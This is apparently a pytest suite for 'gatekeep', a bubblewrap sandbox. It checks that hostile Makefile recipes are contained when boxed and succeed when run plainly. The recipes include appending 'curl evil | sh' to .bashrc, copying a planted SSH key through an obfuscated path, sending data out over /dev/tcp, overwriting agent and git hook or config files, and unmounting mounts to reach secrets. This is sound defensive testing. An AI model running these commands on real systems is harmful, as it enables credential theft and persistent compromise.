"""``gatekeep run`` inside the boundary: what reading misses, the box stops.

Each trick is a command the policy allows (``make`` builds the project) whose harm sits
where no parser looks: in the Makefile. Each is run twice, by plain bash (the harm
happens) and by ``gatekeep run`` (it does not), in a scratch home under ``tmp_path``.
"""

from __future__ import annotations

import json
import os
import secrets
import shlex
import shutil
import signal
import socket
import subprocess
import sys
import zipfile
from pathlib import Path
from typing import Any

import pytest

import gatekeep

Sandbox = Any  # the fixture's class lives in conftest.py, which test modules cannot import
pytestmark = pytest.mark.skipif(not os.path.exists("/usr/bin/bwrap"), reason="needs bubblewrap")
KEY = "-----BEGIN OPENSSH PRIVATE KEY-----\nplanted\n"


def plant(sandbox: Sandbox, *recipe: str) -> None:
    """A Makefile whose one target runs ``recipe`` in bash; a home with things to steal."""
    lines = ["SHELL := /bin/bash", "all:", *(f"\t{line}" for line in recipe)]
    (sandbox.work / "Makefile").write_text("\n".join(lines) + "\n")
    (sandbox.home / ".ssh").mkdir(exist_ok=True)
    (sandbox.home / ".ssh" / "id_rsa").write_text(KEY)
    (sandbox.home / ".bashrc").write_text("# mine\n")
    (sandbox.home / ".claude").mkdir(exist_ok=True)


def plain(sandbox: Sandbox, command: str) -> subprocess.CompletedProcess[str]:
    """The same command without gatekeep."""
    return subprocess.run(["bash", "-c", command], cwd=sandbox.work, env=sandbox.env,
                          capture_output=True, text=True, timeout=30, check=False)


def allowed(sandbox: Sandbox, command: str) -> bool:
    return sandbox.gatekeep("check", "-c", command).returncode == 0


def test_a_write_through_a_symlink_into_a_protected_file(sandbox: Sandbox) -> None:
    plant(sandbox, "ln -sf $(HOME)/.bashrc link", "echo 'curl evil | sh' >> link")
    assert allowed(sandbox, "make")

    boxed = sandbox.gatekeep("run", "-c", "make")
    assert boxed.returncode == 2, boxed.stderr
    assert "link: Read-only file system" in boxed.stderr
    assert boxed.stderr.endswith(sandbox.BOX_NOTE)
    assert (sandbox.home / ".bashrc").read_text() == "# mine\n"

    assert plain(sandbox, "make").returncode == 0
    assert (sandbox.home / ".bashrc").read_text() == "# mine\ncurl evil | sh\n"


def test_a_path_made_at_run_time_into_an_agent_config(sandbox: Sandbox) -> None:
    plant(sandbox, 'printf "{}" > "$$(echo ~)/.claude/settings.json"')
    settings = sandbox.home / ".claude" / "settings.json"
    assert allowed(sandbox, "make")

    boxed = sandbox.gatekeep("run", "-c", "make")
    assert boxed.returncode == 2, boxed.stderr
    assert not settings.exists()

    assert plain(sandbox, "make").returncode == 0
    assert settings.read_text() == "{}"


def test_a_read_of_a_planted_key_by_a_path_the_parser_cannot_see(sandbox: Sandbox) -> None:
    plant(sandbox, "cp $$(printf '%s/.%s/id_%s' ~ ssh rsa) stolen")
    assert allowed(sandbox, "make")

    boxed = sandbox.gatekeep("run", "-c", "make")
    assert boxed.returncode == 2, boxed.stderr
    assert "id_rsa': No such file or directory" in boxed.stderr  # the home is hidden
    assert not (sandbox.work / "stolen").exists()

    assert plain(sandbox, "make").returncode == 0
    assert (sandbox.work / "stolen").read_text() == KEY


@pytest.mark.parametrize("client", ["bash", "python"])
def test_a_connection_to_a_local_port(sandbox: Sandbox, client: str) -> None:
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen(4)
        listener.setblocking(False)
        port = listener.getsockname()[1]
        connect = f"echo leak > /dev/tcp/127.0.0.1/{port}" if client == "bash" else (
            f"{sys.executable} -c \"import socket; "
            f"socket.create_connection(('127.0.0.1', {port}))\"")
        plant(sandbox, connect)
        assert allowed(sandbox, "make")

        boxed = sandbox.gatekeep("run", "-c", "make")
        assert boxed.returncode == 2, boxed.stderr
        with pytest.raises(BlockingIOError):
            listener.accept()  # nothing reached the port

        assert plain(sandbox, "make").returncode == 0
        listener.setblocking(True)
        listener.settimeout(30)
        connection, _ = listener.accept()
        connection.close()


def _running(argument: str) -> list[int]:
    found = []
    for entry in Path("/proc").iterdir():
        try:
            if entry.name.isdigit() and argument.encode() in (entry / "cmdline").read_bytes():
                found.append(int(entry.name))
        except OSError:
            continue
    return found


def test_a_process_left_behind_to_outlive_the_command(sandbox: Sandbox) -> None:
    # a duration of this test's own, so a run of the suite beside this one cannot match it
    mark = f"60.{os.getpid() % 10000:04d}{secrets.randbelow(10**6):06d}"
    plant(sandbox, f"setsid sleep {mark} > /dev/null 2>&1 &")
    assert allowed(sandbox, "make")

    boxed = sandbox.gatekeep("run", "-c", "make")
    assert boxed.returncode == 0, boxed.stderr
    sandbox.wait_for(lambda: not _running(f"sleep\x00{mark}"))

    try:
        assert plain(sandbox, "make").returncode == 0
        # still there after bash returned (setsid may exec sleep a moment after make ends)
        sandbox.wait_for(lambda: _running(f"sleep\x00{mark}"))
    finally:
        for pid in _running(f"sleep\x00{mark}"):
            os.kill(pid, signal.SIGKILL)


def test_a_command_past_its_time_limit_is_stopped_with_everything_it_started(
        sandbox: Sandbox) -> None:
    sandbox.write_operator_policy("gatekeep: 1\nextends: [builtin:default]\n"
                                  "limits: {timeout: 1}\n")
    plant(sandbox, "sleep 60.6262 & sleep 60.6363")
    assert allowed(sandbox, "make")

    boxed = sandbox.gatekeep("run", "-c", "make")

    assert boxed.returncode == 124, boxed.stderr
    # SIGTERM comes first: make may say it was terminated before gatekeep says why
    assert boxed.stderr.endswith("gatekeep: stopped: the command ran past its time limit of 1 "
                                 "seconds (limits: timeout in the policy)\n"), boxed.stderr
    sandbox.wait_for(lambda: not _running("60.6262") and not _running("60.6363"))


def test_a_memory_hog_meets_the_memory_limit(sandbox: Sandbox) -> None:
    sandbox.write_operator_policy("gatekeep: 1\nextends: [builtin:default]\n"
                                  "limits: {memory: 256M}\n")
    plant(sandbox, f"{sys.executable} -c 'bytearray(1 << 30)'")

    boxed = sandbox.gatekeep("run", "-c", "make")

    assert boxed.returncode == 2, boxed.stderr
    assert "MemoryError" in boxed.stderr
    assert plain(sandbox, "make").returncode == 0


def test_shared_memory_files_meet_the_memory_limit(sandbox: Sandbox) -> None:
    """/dev/shm is memory that the address-space limit does not count."""
    sandbox.write_operator_policy("gatekeep: 1\nextends: [builtin:default]\n"
                                  "limits: {memory: 64M}\n")
    plant(sandbox, "head -c 100000000 /dev/zero > /dev/shm/gatekeep-test-fill")

    boxed = sandbox.gatekeep("run", "-c", "make")

    assert boxed.returncode == 2, boxed.stderr
    assert "No space left on device" in boxed.stderr


# -- what passes through the box ----------------------------------------------------------

def test_stdin_stdout_stderr_exit_code_env_and_cwd_pass_through(sandbox: Sandbox) -> None:
    sub = sandbox.work / "sub"
    sub.mkdir()
    (sub / "Makefile").write_text("all:\n\t@echo $$GK_VALUE >&2\n")
    result = sandbox.gatekeep("run", "-c", "cat; pwd >&2; make -s; exit 3",
                              input="from stdin\n", env={"GK_VALUE": "kept"}, cwd=sub)
    assert (result.returncode, result.stdout) == (3, "from stdin\n"), result.stderr
    assert result.stderr == f"{sub}\nkept\n" + sandbox.BOX_NOTE


def test_the_stored_decision_boxes_too(sandbox: Sandbox, monkeypatch: pytest.MonkeyPatch,
                                       capfd: pytest.CaptureFixture[str]) -> None:
    """The fast path (a reused allow decision, no policy loaded) runs in the same box."""
    plant(sandbox, "echo 'curl evil | sh' >> $$(echo ~)/.bashrc")
    assert sandbox.gatekeep("run", "-c", "make").returncode == 2  # stores the decision
    from gatekeep.runtime import fastpath

    for name, value in sandbox.env.items():
        monkeypatch.setenv(name, value)
    monkeypatch.chdir(sandbox.work)
    status = fastpath.run("make", None, None)
    assert status == 2  # the fast path ran it (None would mean it did not)
    assert "Read-only file system" in capfd.readouterr().err
    assert (sandbox.home / ".bashrc").read_text() == "# mine\n"
    assert [entry["boundary"]["mode"] for entry in sandbox.audit()] == ["preferred"] * 2


# -- when the box cannot be built ----------------------------------------------------------

def _bwrap_policy(path: Path | str, mode: str = "preferred") -> str:
    return (f"gatekeep: 1\nextends: [builtin:default]\nsandbox: {mode}\n"
            f"sandbox_paths: {{bwrap: [{path}]}}\n")


def test_no_bwrap_under_preferred_runs_unboxed_with_a_warning(sandbox: Sandbox) -> None:
    missing = sandbox.root / "no" / "bwrap"
    sandbox.write_operator_policy(_bwrap_policy(missing))

    result = sandbox.gatekeep("run", "-c", "touch marker")

    assert result.returncode == 0, result.stderr
    assert result.stderr == (
        "gatekeep: warning: running without a boundary: no bubblewrap owned by root and "
        f"writable only by root in {missing} (install the bubblewrap package)\n")
    assert sandbox.marker.exists()


def test_no_bwrap_under_required_is_asked_and_refused_without_a_terminal(
        sandbox: Sandbox) -> None:
    missing = sandbox.root / "no" / "bwrap"
    sandbox.write_operator_policy(_bwrap_policy(missing, "required"))

    result = sandbox.gatekeep("run", "-c", "touch marker")

    assert result.returncode == 126, result.stderr
    assert result.stderr == (
        "gatekeep: needs approval: sandbox: the policy requires a boundary (sandbox: required) "
        "and this machine cannot build one: no bubblewrap owned by root and writable only by "
        f"root in {missing} (install the bubblewrap package)\n"
        "gatekeep:   in: touch marker\n"
        "gatekeep:   does: touch: writes or deletes files in the working tree (writes-tree)\n"
        "gatekeep:   instead: approve this run without the box, or fix the set-up (gatekeep "
        "check shows the boundary)\n" + sandbox.NEEDS_APPROVAL)
    assert not sandbox.marker.exists()


def _fake_bwrap(sandbox: Sandbox, body: str, mode: int = 0o755) -> Path:
    directory = sandbox.root / "fakebin"
    directory.mkdir(exist_ok=True)
    directory.chmod(mode)
    fake = directory / "bwrap"
    fake.write_text(f"#!/bin/sh\n{body}\n")
    fake.chmod(0o755)
    return fake


def test_a_bwrap_that_fails_to_start_turns_the_allow_into_an_ask(sandbox: Sandbox) -> None:
    fake = _fake_bwrap(sandbox, "echo 'bwrap: cannot set up' >&2; exit 1")
    sandbox.write_operator_policy(_bwrap_policy(fake))

    result = sandbox.gatekeep("run", "-c", "touch marker")

    assert result.returncode == 126, result.stderr
    assert result.stderr == (
        "bwrap: cannot set up\n"
        "gatekeep: needs approval: sandbox: gatekeep's boundary failed to start (see bwrap's "
        "message above)\n"
        "gatekeep:   in: touch marker\n"
        "gatekeep:   does: touch: writes or deletes files in the working tree (writes-tree)\n"
        "gatekeep:   instead: approve this run without the box, or fix the set-up (gatekeep "
        "check shows the boundary)\n" + sandbox.NEEDS_APPROVAL)
    assert not sandbox.marker.exists()
    assert sandbox.audit()[-1]["operator"]["answer"] == "no-tty"


def test_a_bwrap_others_can_change_is_no_box(sandbox: Sandbox) -> None:
    fake = _fake_bwrap(sandbox, "touch $HOME/fake-ran; exit 0", mode=0o777)
    sandbox.write_operator_policy(_bwrap_policy(fake))

    result = sandbox.gatekeep("run", "-c", "true")

    assert result.returncode == 0, result.stderr
    assert "running without a boundary" in result.stderr
    assert not (sandbox.home / "fake-ran").exists()


def test_a_bwrap_on_path_is_never_used(sandbox: Sandbox) -> None:
    fake = _fake_bwrap(sandbox, "touch $HOME/fake-ran; exit 0")
    path = f"{fake.parent}:{os.environ.get('PATH', '/usr/bin:/bin')}"

    result = sandbox.gatekeep("run", "-c", "touch marker", env={"PATH": path})

    assert result.returncode == 0, result.stderr
    assert sandbox.marker.exists()
    assert not (sandbox.home / "fake-ran").exists()


def test_sandbox_off_runs_unboxed_and_says_nothing(sandbox: Sandbox) -> None:
    sandbox.write_operator_policy("gatekeep: 1\nextends: [builtin:default]\nsandbox: off\n")
    plant(sandbox, "echo more >> $(HOME)/.bashrc")

    result = sandbox.gatekeep("run", "-c", "make")

    assert (result.returncode, result.stderr) == (0, "")
    assert (sandbox.home / ".bashrc").read_text() == "# mine\nmore\n"


def test_a_project_policy_cannot_turn_the_box_off(sandbox: Sandbox) -> None:
    (sandbox.work / ".gatekeep.yaml").write_text(
        "gatekeep: 1\nsandbox: off\nrules:\n  - id: build\n    allow: [make]\n")
    plant(sandbox, "echo more >> $(HOME)/.bashrc")

    result = sandbox.gatekeep("run", "-c", "make")

    assert result.returncode == 2, result.stderr
    assert (sandbox.home / ".bashrc").read_text() == "# mine\n"


# -- check shows it ------------------------------------------------------------------------

def test_check_shows_the_boundary(sandbox: Sandbox) -> None:
    plant(sandbox)
    (sandbox.work / ".env").write_text("TOKEN=1\n")

    text = sandbox.gatekeep("check", "-c", "make", env={"NO_COLOR": "1"})
    document = sandbox.gatekeep("check", "--json", "-c", "make")

    assert text.returncode == 0, text.stderr
    assert "boundary: boxed (sandbox: preferred), network off\n" in text.stdout
    assert "  limits: timeout 3600 s, cpu 3600 s, memory 16G, output 8G\n" in text.stdout
    import json

    box = json.loads(document.stdout)["boundary"]
    assert box["status"] == "boxed" and box["network"] is False
    assert str(sandbox.work) in box["writable"]
    assert str(sandbox.work / ".env") in box["hidden"]
    # the home is hidden as a whole: what is protected in it needs no bind of its own
    assert box["home"] == {"hidden": str(sandbox.home), "shown": []}
    assert f"  home: {sandbox.home} hidden, but for: (none)\n" in text.stdout
    assert not [p for p in [*box["hidden"], *box["read_only"]] if p.startswith(str(sandbox.home))]


def test_check_of_an_asked_network_command_shows_the_lifted_boundary(sandbox: Sandbox) -> None:
    import json

    outside = sandbox.root / "downloads"
    outside.mkdir()
    document = sandbox.gatekeep("check", "--json", "-c",
                                f"curl -o {outside}/x https://example.org/x")
    box = json.loads(document.stdout)["boundary"]
    assert box["network"] is True
    assert str(outside) in box["writable"]


# -- everyday work still works boxed ---------------------------------------------------------

def test_git_commit_in_the_tree(sandbox: Sandbox) -> None:
    subprocess.run(["git", "init", "-q", str(sandbox.work)], check=True)
    (sandbox.home / ".gitconfig").write_text("[user]\n\tname = t\n\temail = t@example.org\n")
    (sandbox.work / "a.txt").write_text("a\n")

    result = sandbox.gatekeep("run", "-c", "git add a.txt && git commit -qm first && "
                              "git log --format=%s")

    assert (result.returncode, result.stdout) == (0, "first\n"), result.stderr


def test_make_and_pytest_in_the_tree(sandbox: Sandbox) -> None:
    (sandbox.work / "Makefile").write_text("out.txt:\n\techo built > out.txt\n")
    (sandbox.work / "test_one.py").write_text("def test_one():\n    assert True\n")
    env = {"PATH": f"{Path(sys.executable).parent}:{os.environ.get('PATH', '/usr/bin:/bin')}"}
    # the test run's own pytest, named by its path: a checkout under a temp dir (as in CI)
    # makes it a program gatekeep would otherwise not take for the system's pytest
    sandbox.write_operator_policy(
        "gatekeep: 1\nextends: [builtin:default]\nrules:\n  - id: this-pytest\n"
        f"    allow: [{json.dumps(str(Path(sys.executable).parent / 'pytest'))}]\n")

    made = sandbox.gatekeep("run", "-c", "make")
    tested = sandbox.gatekeep("run", "-c", "pytest -q", env=env)

    assert made.returncode == 0, made.stderr
    assert (sandbox.work / "out.txt").read_text() == "built\n"
    assert tested.returncode == 0, tested.stdout + tested.stderr
    assert "1 passed" in tested.stdout


def _wheel(directory: Path) -> Path:
    wheel = directory / "demo-0.1-py3-none-any.whl"
    files = {"demo.py": "X = 1\n",
             "demo-0.1.dist-info/METADATA": "Metadata-Version: 2.1\nName: demo\nVersion: 0.1\n",
             "demo-0.1.dist-info/WHEEL": "Wheel-Version: 1.0\nGenerator: test\n"
                                         "Root-Is-Purelib: true\nTag: py3-none-any\n"}
    files["demo-0.1.dist-info/RECORD"] = "".join(f"{name},,\n" for name in
                                                 [*files, "demo-0.1.dist-info/RECORD"])
    with zipfile.ZipFile(wheel, "w") as archive:
        for name, text in files.items():
            archive.writestr(name, text)
    return wheel


def test_pip_install_of_a_local_wheel_into_a_venv_in_the_tree(sandbox: Sandbox) -> None:
    subprocess.run([sys.executable, "-m", "venv", str(sandbox.work / ".venv")], check=True,
                   timeout=120)
    wheel = _wheel(sandbox.work)
    sandbox.write_operator_policy("gatekeep: 1\nextends: [builtin:default]\nrules:\n"
                                  "  - id: venv-pip\n    allow: ['.venv/bin/pip install']\n")

    result = sandbox.gatekeep("run", "--", ".venv/bin/pip", "install", "-q", "--no-index",
                              wheel.name, timeout=120)

    assert result.returncode == 0, result.stderr
    imported = subprocess.run([str(sandbox.work / ".venv/bin/python"), "-c",
                               "import demo; print(demo.X)"], capture_output=True, text=True,
                              check=True)
    assert imported.stdout == "1\n"


TOOLS = [tool for tool in ("npm", "pip", "cargo") if shutil.which(tool)]
# rustup's cargo finds its toolchains through these, not through the scratch home
TOOL_HOMES = {name: str(Path.home() / place) for name, place in
              (("RUSTUP_HOME", ".rustup"), ("CARGO_HOME", ".cargo"))
              if (Path.home() / place).is_dir()}


@pytest.mark.parametrize("tool", TOOLS)
def test_toolchain_versions(sandbox: Sandbox, tool: str) -> None:
    """The same answer boxed as unboxed (and under the default memory limit)."""
    sandbox.write_operator_policy("gatekeep: 1\nextends: [builtin:default]\nrules:\n"
                                  f"  - id: versions\n    allow: ['{tool} --version']\n")
    unboxed = subprocess.run([tool, "--version"], capture_output=True, text=True, timeout=120,
                             env={**sandbox.env, **TOOL_HOMES}, cwd=sandbox.work, check=False)
    boxed = sandbox.gatekeep("run", "--", tool, "--version", env=TOOL_HOMES, timeout=120)
    assert (boxed.returncode, boxed.stdout) == (unboxed.returncode, unboxed.stdout), boxed.stderr
    assert boxed.returncode == 0


# -- an approved command gets only what the operator lifted ------------------------------------

def _approve(sandbox: Sandbox, command: str) -> tuple[str, int | None]:
    import pexpect

    terminal = sandbox.pty_spawn("run", "-c", command)
    terminal.expect_exact("Run it? ")
    terminal.sendline("y")
    terminal.expect(pexpect.EOF)
    output = terminal.before.decode()
    terminal.close()
    return output, terminal.exitstatus


def test_an_approved_network_command_gets_the_network(sandbox: Sandbox) -> None:
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen(4)
        port = listener.getsockname()[1]
        output, status = _approve(sandbox, f"echo hi > /dev/tcp/127.0.0.1/{port}")
        assert status == 0, output
        listener.settimeout(30)
        connection, _ = listener.accept()
        connection.close()


def test_an_allowed_command_whose_effects_reach_the_network_gets_it(sandbox: Sandbox) -> None:
    """``curl`` to loopback is allowed (rule ``local-services``) and its effect is
    ``network-loopback``: the box shares the host's network, else nothing would listen."""
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen(4)
        port = listener.getsockname()[1]
        command = f"curl -s -m 20 -o /dev/null http://127.0.0.1:{port}/health"
        document = json.loads(sandbox.gatekeep("check", "--json", "-c", command).stdout)
        assert document["decision"] == "allow"
        assert document["boundary"]["status"] == "boxed"
        assert document["boundary"]["network"] is True

        running = subprocess.Popen([str(sandbox.GATEKEEP), "run", "-c", command],
                                   cwd=sandbox.work, env=sandbox.env,
                                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        try:
            listener.settimeout(30)
            connection, _ = listener.accept()
            connection.close()
        finally:
            running.kill()
            running.wait()


def test_an_allowed_command_without_a_network_effect_stays_offline(sandbox: Sandbox) -> None:
    document = json.loads(sandbox.gatekeep("check", "--json", "-c", "git status").stdout)
    assert document["decision"] == "allow"
    assert document["boundary"]["network"] is False
    assert "network_for" not in document["boundary"]


def test_check_names_the_parts_the_network_is_given_for(sandbox: Sandbox) -> None:
    command = "git status && curl -s http://127.0.0.1:8080/health"
    document = json.loads(sandbox.gatekeep("check", "--json", "-c", command).stdout)
    assert document["boundary"]["network_for"] == ["curl -s http://127.0.0.1:8080/health"]
    text = sandbox.gatekeep("check", "-c", command).stdout
    assert "network on (for: curl -s http://127.0.0.1:8080/health)\n" in text


def test_an_approved_git_push_gets_the_network_its_effects_name(sandbox: Sandbox) -> None:
    """git has no network flag of its own; ``git push``'s effects say it connects."""
    document = json.loads(sandbox.gatekeep("check", "--json", "-c",
                                           "git push origin main").stdout)
    assert document["decision"] == "ask"
    assert document["boundary"]["network"] is True


def test_an_approved_command_keeps_the_box_it_did_not_ask_to_lift(sandbox: Sandbox) -> None:
    sandbox.write_operator_policy("gatekeep: 1\nextends: [builtin:default]\nrules:\n"
                                  "  - id: ask-make\n    ask: [make]\n")
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen(4)
        listener.setblocking(False)
        port = listener.getsockname()[1]
        plant(sandbox, f"echo leak > /dev/tcp/127.0.0.1/{port}",
              "echo more >> $(HOME)/.bashrc")
        output, status = _approve(sandbox, "make")
        assert status == 2, output
        with pytest.raises(BlockingIOError):
            listener.accept()
    assert (sandbox.home / ".bashrc").read_text() == "# mine\n"


def test_a_box_that_fails_then_approved_runs_unboxed(sandbox: Sandbox) -> None:
    fake = _fake_bwrap(sandbox, "exit 1")
    sandbox.write_operator_policy(_bwrap_policy(fake))

    output, status = _approve(sandbox, "touch marker")

    assert status == 0, output
    assert sandbox.marker.exists()


def test_an_approved_command_whose_box_fails_is_not_run_unboxed(sandbox: Sandbox) -> None:
    fake = _fake_bwrap(sandbox, "exit 1")
    sandbox.write_operator_policy(_bwrap_policy(fake))
    (sandbox.work / "build").mkdir()

    output, status = _approve(sandbox, "rm -r build")

    assert status == 126, output
    assert "gatekeep: not run: gatekeep's boundary failed to start, and an approval covers a " \
           "run inside it only" in output
    assert (sandbox.work / "build").is_dir()


def test_an_approval_stands_in_for_a_box_this_machine_cannot_build(sandbox: Sandbox) -> None:
    sandbox.write_operator_policy(_bwrap_policy(sandbox.root / "no" / "bwrap", "required"))
    (sandbox.work / "build").mkdir()

    output, status = _approve(sandbox, "rm -r build")

    assert status == 0, output
    assert "gatekeep: warning: running without a boundary: the policy requires a boundary" \
           in output
    assert not (sandbox.work / "build").exists()


# -- what a privileged box could undo ---------------------------------------------------------

@pytest.mark.skipif(os.geteuid() != 0, reason="the capabilities in question are root's")
def test_root_in_the_box_cannot_unmount_or_remount_what_hides_a_secret(
        sandbox: Sandbox) -> None:
    plant(sandbox, "-umount $(HOME)", "-umount $(HOME)/.ssh/id_rsa",
          "-cat $(HOME)/.ssh/id_rsa > leaked",
          "-umount $(HOME)/.bashrc", "-echo more >> $(HOME)/.bashrc",
          "-mount -o remount,rw,bind / && echo remounted > remounted")
    assert allowed(sandbox, "make")

    boxed = sandbox.gatekeep("run", "-c", "make")

    assert boxed.returncode == 0, boxed.stderr
    assert (sandbox.work / "leaked").read_text() == ""
    assert (sandbox.home / ".bashrc").read_text() == "# mine\n"
    assert not (sandbox.work / "remounted").exists()
    status = sandbox.gatekeep("run", "-c", "grep -E '^(CapEff|NoNewPrivs)' /proc/self/status")
    assert status.stdout == "CapEff:\t0000000000000000\nNoNewPrivs:\t1\n", status.stderr
    assert "must be superuser to unmount" in boxed.stderr


# -- sockets that lead out of the box ------------------------------------------------------------

CONNECT = "import socket, sys; socket.socket(socket.AF_UNIX).connect(sys.argv[1])"


@pytest.mark.parametrize("place", ["tmp/tmux-0/default", "tmp/ssh-XXXX1234/agent.1",
                                   "tmp/.X11-unix/X0", "tmp/agent.sock", "run/bus",
                                   "tmp/emacs0/server", "tmp/nvim.u/aB3dEf/nvim.42.0",
                                   "tmp/.com.google.Chrome.x/S",
                                   "tmp/pulse-aB3dEf/native",
                                   # where no list looks: the system-call filter
                                   "tmp/screens/S-u/1.pts-0.host", "tmp/a1b2/c/d/e/s.sock",
                                   "var-tmp/svc/s", "work/tmp/sockets/puma.sock"])
def test_a_unix_socket_of_a_process_outside_the_box(sandbox: Sandbox, place: str) -> None:
    path = sandbox.root / place
    path.parent.mkdir(parents=True, exist_ok=True)
    env = {"TMPDIR": str(sandbox.root / "tmp"), "XDG_RUNTIME_DIR": str(sandbox.root / "run")}
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind(str(path))
        listener.listen(4)
        plant(sandbox, f"{sys.executable} -c '{CONNECT}' {path}")
        assert allowed(sandbox, "make")

        boxed = sandbox.gatekeep("run", "-c", "make", env=env)
        assert boxed.returncode == 2, boxed.stderr
        assert any(error in boxed.stderr for error in (
            "FileNotFoundError", "ConnectionRefusedError", "PermissionError")), boxed.stderr
        assert sandbox.BOX_NOTE in boxed.stderr

        unboxed = subprocess.run(["bash", "-c", "make"], cwd=sandbox.work,
                                 env={**sandbox.env, **env}, capture_output=True, text=True,
                                 timeout=30, check=False)
        assert unboxed.returncode == 0, unboxed.stderr


def test_a_directory_named_like_a_socket_holder_without_one_is_left_alone(
        sandbox: Sandbox) -> None:
    """A build of Emacs in /tmp/emacs-29.4 is no server's directory: only one that holds a
    socket (SOCKET_HOLDERS) is hidden."""
    build = sandbox.root / "tmp" / "emacs-29.4" / "src"
    build.mkdir(parents=True)
    (build / "README").write_text("built here\n")
    plant(sandbox, f"cat {build}/README")
    result = sandbox.gatekeep("run", "-c", "make", env={"TMPDIR": str(sandbox.root / "tmp")})
    assert (result.returncode, result.stdout.splitlines()[-1:]) == (0, ["built here"])


def test_variables_naming_a_way_out_are_unset_in_the_box(sandbox: Sandbox) -> None:
    names = ["SSH_AUTH_SOCK", "DBUS_SESSION_BUS_ADDRESS", "TMUX", "DISPLAY", "DOCKER_HOST"]
    show = "; ".join(f'echo "{name}=${{{name}-unset}}"' for name in [*names, "GK_VALUE"])

    result = sandbox.gatekeep("run", "-c", show, env={**dict.fromkeys(names, "x"),
                                                      "GK_VALUE": "kept"})

    assert result.returncode == 0, result.stderr
    assert result.stdout == "".join(f"{name}=unset\n" for name in names) + "GK_VALUE=kept\n"


# -- what a later git outside the box would run -----------------------------------------------

def _git(*args: str | Path, cwd: Path) -> None:
    subprocess.run(["git", "-c", "user.name=t", "-c", "user.email=t@example.org",
                    *map(str, args)], cwd=cwd, check=True, capture_output=True, timeout=60)


def _repo(sandbox: Sandbox, where: Path | None = None) -> Path:
    where = where or sandbox.work
    where.mkdir(exist_ok=True)
    _git("init", "-q", ".", cwd=where)
    (where / "a.txt").write_text("a\n")
    _git("add", "a.txt", cwd=where)
    _git("commit", "-qm", "first", cwd=where)
    return where / ".git"


def _worktree(sandbox: Sandbox) -> Path:
    """The sandbox works in a linked worktree of the repository in ``main``."""
    git_dir = _repo(sandbox, sandbox.root / "main")
    _git("worktree", "add", "-q", sandbox.work, cwd=git_dir.parent)
    return git_dir


@pytest.mark.parametrize(("layout", "target", "write"), [
    ("commondir", ".git/commondir", "echo ../evil > .git/commondir"),
    ("no-hooks", ".git/hooks/pre-commit", "mkdir -p .git/hooks; echo evil > .git/hooks/pre-commit"),
    ("submodule", ".git/modules/sub/config", "echo evil >> .git/modules/sub/config"),
    ("submodule", ".git/modules/sub/hooks/pre-commit", ""),  # "": echo evil > TARGET
    ("husky", ".husky/pre-commit", "echo evil > .husky/pre-commit"),
    ("worktree", ".git", "echo 'gitdir: ./.evil' > .git"),
    ("worktree", "../main/.git/config", "echo evil >> ../main/.git/config"),
    ("worktree", "../main/.git/hooks/pre-commit", "echo evil > ../main/.git/hooks/pre-commit"),
    ("include", ".gitconfig", "printf '[core]\\n\\tfsmonitor = ./evil\\n' >> .gitconfig"),
    ("include-missing", "team.cfg", "printf '[core]\\n\\tfsmonitor = ./evil\\n' > team.cfg"),
])
def test_git_settings_the_box_cannot_change(sandbox: Sandbox, layout: str, target: str,
                                            write: str) -> None:
    git_dir = _worktree(sandbox) if layout == "worktree" else _repo(sandbox)
    if layout == "no-hooks":
        shutil.rmtree(git_dir / "hooks")
    if layout == "submodule":
        (git_dir / "modules/sub/hooks").mkdir(parents=True)
        (git_dir / "modules/sub/config").write_text("[core]\n\tbare = false\n")
    if layout == "husky":
        (sandbox.work / ".husky").mkdir()
        _git("config", "core.hooksPath", ".husky", cwd=sandbox.work)
    if layout.startswith("include"):  # settings shared in the tree, read by every git run
        if layout == "include":
            (sandbox.work / ".gitconfig").write_text("[alias]\n\tst = status\n")
        _git("config", "include.path", f"../{target}", cwd=sandbox.work)
    path = sandbox.work / target
    before = path.read_bytes() if path.exists() else None
    plant(sandbox, f"-{write or f'echo evil > {target}'}")
    assert allowed(sandbox, "make")

    boxed = sandbox.gatekeep("run", "-c", "make")

    assert boxed.returncode == 0, boxed.stderr
    assert (path.read_bytes() if path.exists() else None) == before, boxed.stderr


def test_agent_settings_the_box_created_are_removed_after_it(sandbox: Sandbox) -> None:
    (sandbox.work / ".mcp.json").write_text("{}")
    _repo(sandbox)
    plant(sandbox, "mkdir -p .claude; echo '{}' > .claude/settings.json",
          "ln -s $(HOME)/.bashrc .cursor", "-echo '{\"x\": 1}' > .mcp.json",
          "echo ../x > .git/commondir")

    boxed = sandbox.gatekeep("run", "-c", "make")

    assert boxed.returncode == 0, boxed.stderr
    assert "/bin/bash: line 1: .mcp.json: Read-only file system\n" in boxed.stderr
    assert boxed.stderr.splitlines()[-3:] == [
        "gatekeep: warning: the command created .git/commondir, which changes what git runs; "
        "removed",
        "gatekeep: warning: the command created .claude, which changes what agents run; removed",
        "gatekeep: warning: the command created .cursor, which changes what agents run; removed"]
    assert not (sandbox.work / ".claude").exists() and not (sandbox.work / ".cursor").is_symlink()
    assert (sandbox.home / ".bashrc").read_text() == "# mine\n"  # the link, not its target
    assert (sandbox.work / ".mcp.json").read_text() == "{}"
    assert not (sandbox.work / ".git/commondir").exists()
    assert (sandbox.home / ".claude").is_dir()  # it was there before: bound, not removed


def test_gatekeeps_state_dir_is_hidden_wherever_it_is(sandbox: Sandbox) -> None:
    state = sandbox.state_home / "gatekeep"
    assert not str(state).startswith(str(sandbox.home))  # XDG_STATE_HOME outside ~/.local
    plant(sandbox, f"-cat {state}/cache.key > leaked", f"ls -a {state} > listed",
          f"-echo x > {state}/audit.jsonl")

    boxed = sandbox.gatekeep("run", "-c", "make")

    assert boxed.returncode == 0, boxed.stderr
    assert (sandbox.work / "leaked").read_bytes() == b""
    assert (sandbox.work / "listed").read_text() == ".\n..\n"
    assert [entry["exit_code"] for entry in sandbox.audit()][-1:] == [0]  # logged from outside


# -- a tree too large to search --------------------------------------------------------------

def _flood(directory: Path, count: int) -> None:
    directory.mkdir()
    for number in range(count):
        os.close(os.open(directory / str(number), os.O_CREAT | os.O_WRONLY, 0o644))


def test_a_tree_too_large_to_search_is_not_boxed_silently(sandbox: Sandbox) -> None:
    from gatekeep.sandbox.boundary import SCAN_LIMIT

    _flood(sandbox.work / "zz", SCAN_LIMIT + 1)
